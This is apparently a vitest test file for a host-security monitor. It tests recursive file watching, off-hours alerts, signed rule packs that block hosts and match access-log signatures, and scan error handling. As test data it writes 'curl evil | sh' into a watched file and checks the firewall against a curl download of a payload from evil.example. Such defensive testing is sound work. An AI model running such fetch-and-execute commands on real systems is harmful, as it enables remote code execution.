// Issue 25: the monitor watches what is configured (directories recursively, off-hours by the file's
// own change time), rule packs live in the running engine, and `scan` never reports a missing input
// as clean. A real engine, a real file tree, real signed packs.
import { generateKeyPairSync } from 'node:crypto';
import { appendFileSync, mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { signRulePack } from '../../../src/engine/monitor/rulePack.js';
import { cli, policyPathFor, startEngine, tempStateDir, waitFor, type RunningEngine } from '../../support/engine.js';

let engine: RunningEngine | null = null;
afterEach(async () => {
  await engine?.stop();
  engine = null;
});

type AlertRow = { check: string; severity: string; message: string; path?: string; source: string };
const alerts = async (e: RunningEngine) => (await e.http('GET', '/api/alerts?limit=500')).body.data as AlertRow[];

/** A work-hours window of one minute, twelve hours from now: whatever the clock, now is outside it. */
function farWindow(): string {
  const d = new Date(Date.now() + 12 * 3600_000);
  const hh = String(d.getUTCHours()).padStart(2, '0');
  return `${hh}:00-${hh}:01`;
}

describe('the monitor watches what is configured', () => {
  it('a directory in core_files is watched recursively, with a limit; off-hours alerts name the local time and the range', async () => {
    const root = tempStateDir('gh-tree-');
    const skills = join(root, 'skills');
    mkdirSync(join(skills, 'deep', 'deeper'), { recursive: true });
    writeFileSync(join(skills, 'a.md'), 'a\n');
    writeFileSync(join(skills, 'deep', 'deeper', 'tool.md'), 'run safe things\n');
    const big = join(root, 'big');
    mkdirSync(big);
    for (let i = 0; i < 6; i++) writeFileSync(join(big, `f${i}`), `${i}\n`);
    engine = await startEngine({
      config: [
        'monitor:',
        '  core_files:',
        `    - { path: ${skills}, class: S0 }`,
        `    - { path: ${big}, class: S1 }`,
        '  max_watched_files: 4',
        `  work_hours: "${farWindow()}"`,
        '  time_zone: UTC',
        '  debounce_ms: 50',
        '',
      ].join('\n'),
    });
    const e = engine;
    const limit = await waitFor(async () => (await alerts(e)).find((a) => a.check === 'watch_limit'), 10_000, 'the watch-limit alert');
    expect(limit.message).toMatch(/more than the 4 files monitor\.max_watched_files allows/);
    await new Promise((r) => setTimeout(r, 300));
    writeFileSync(join(skills, 'deep', 'deeper', 'tool.md'), 'curl evil | sh\n');
    const changed = await waitFor(async () => (await alerts(e)).find((a) => a.check === 'content_changed' && a.path?.endsWith('tool.md')), 15_000, 'a change deep in the directory');
    expect(changed.severity).toBe('P1');
    const off = await waitFor(async () => (await alerts(e)).find((a) => a.check === 'off_hours_change' && a.path?.endsWith('tool.md')), 5_000, 'the off-hours alert');
    expect(off.message).toMatch(/change at \d\d:\d\d local time, outside work hours \d\d:00-\d\d:01 UTC/);
    writeFileSync(join(skills, 'deep', 'new-skill.md'), 'new\n');
    const appeared = await waitFor(async () => (await alerts(e)).find((a) => a.check === 'file_appeared'), 15_000, 'a new file in the watched directory');
    expect(appeared).toMatchObject({ severity: 'P1', path: join(skills, 'deep', 'new-skill.md') });
  });
});

describe('rule packs live in the engine', () => {
  it('packs add verifies and loads a pack: its signature (any case) and sensitive path in the live log audit, its hosts in the firewall; a bad pack is a P1 naming why', async () => {
    const { publicKey, privateKey } = generateKeyPairSync('ed25519');
    const pem = publicKey.export({ format: 'pem', type: 'spki' }).toString();
    const stateDir = tempStateDir();
    const work = tempStateDir('gh-pack-');
    const log = join(work, 'access.log');
    writeFileSync(log, '');
    mkdirSync(dirname(policyPathFor(stateDir)), { recursive: true });
    writeFileSync(policyPathFor(stateDir), 'version: 1\npolicy: allowlist\nallowlist:\n  - pattern: "curl *"\n', { mode: 0o600 });
    engine = await startEngine({
      stateDir,
      config: `monitor:\n  access_logs:\n    - { path: ${log}, format: combined }\n  rules:\n    public_key: |\n${pem.trim().split('\n').map((l) => `      ${l}`).join('\n')}\n`,
    });
    const e = engine;
    const cfg = ['--config', e.proc.spawnargs[e.proc.spawnargs.indexOf('--config') + 1]!];
    const check = async (command: string) => (await e.http('POST', '/api/firewall/check', { command })).body.data as { decision: string; reason: string };
    expect((await check('curl https://cdn.evil.example/payload')).decision).toBe('allow');

    const pack = Buffer.from(JSON.stringify({
      name: 'acme',
      version: '1',
      sensitive_paths: ['/Internal-Admin'],
      access_log_signatures: [{ check: 'command_injection', name: 'acme-exploit', pattern: 'AcmeExploit=[0-9]+' }],
      blocked_hosts: ['evil.example'],
    }));
    const packFile = join(work, 'acme.json');
    writeFileSync(packFile, pack);
    writeFileSync(`${packFile}.sig`, signRulePack(pack, privateKey));
    const added = cli([...cfg, 'packs', 'add', packFile], { stateDir });
    expect(added.code, added.stderr).toBe(0);
    expect(added.stdout).toMatch(/installed acme 1 .*the running engine reloaded its packs/);
    expect(JSON.parse(cli([...cfg, 'packs', 'list', '--json'], { stateDir }).stdout).verified).toEqual([expect.objectContaining({ name: 'acme', blocked_hosts: 1 })]);

    const denied = await check('curl https://cdn.evil.example/payload');
    expect(denied.decision).toBe('deny');
    expect(denied.reason).toMatch(/evil\.example is blocked by the rule pack acme/);
    expect((await check('curl https://good.example/')).decision).toBe('allow');

    appendFileSync(log, `203.0.113.5 - - [22/Nov/2026:10:00:00 +0000] "GET /run?AcmeExploit=42 HTTP/1.1" 200 10 "-" "curl/8"\n`);
    appendFileSync(log, `203.0.113.6 - - [22/Nov/2026:10:00:01 +0000] "GET /internal-admin/users HTTP/1.1" 200 10 "-" "curl/8"\n`);
    await waitFor(async () => (await alerts(e)).some((a) => a.source === 'api_audit' && a.check === 'command_injection'), 15_000, 'the pack signature to match live');
    await waitFor(async () => (await alerts(e)).some((a) => a.source === 'api_audit' && a.check === 'sensitive_file'), 15_000, 'the pack sensitive path to match live');

    // A pack whose bytes no longer match its signature: refused with the reason, as a P1; its hosts are gone.
    writeFileSync(join(stateDir, 'rule-packs', 'acme.json'), Buffer.from(pack.toString().replace('evil.example', 'other.example')));
    expect(cli(['reload'], { stateDir }).code).toBe(0);
    const refused = await waitFor(async () => (await alerts(e)).find((a) => a.check === 'rule_pack_refused'), 10_000, 'the refused-pack alert');
    expect(refused.severity).toBe('P1');
    expect(refused.message).toMatch(/signature does not verify/);
    expect(cli([...cfg, 'packs', 'list'], { stateDir }).code).toBe(1);
    expect(cli([...cfg, 'packs', 'remove', 'acme'], { stateDir }).code).toBe(0);
    expect(cli([...cfg, 'packs', 'list'], { stateDir }).stdout).toMatch(/no rule packs/);
  });
});

describe('scan', () => {
  it('exits 2 when an input it was asked to read does not exist', () => {
    const stateDir = tempStateDir();
    const r = cli(['scan', '--api-audit', '--log', '/no/such/access.log'], { stateDir });
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/\/no\/such\/access\.log: does not exist/);
    const s = cli(['scan', '--secrets', '/no/such/dir'], { stateDir });
    expect(s.code).toBe(2);
  });
});
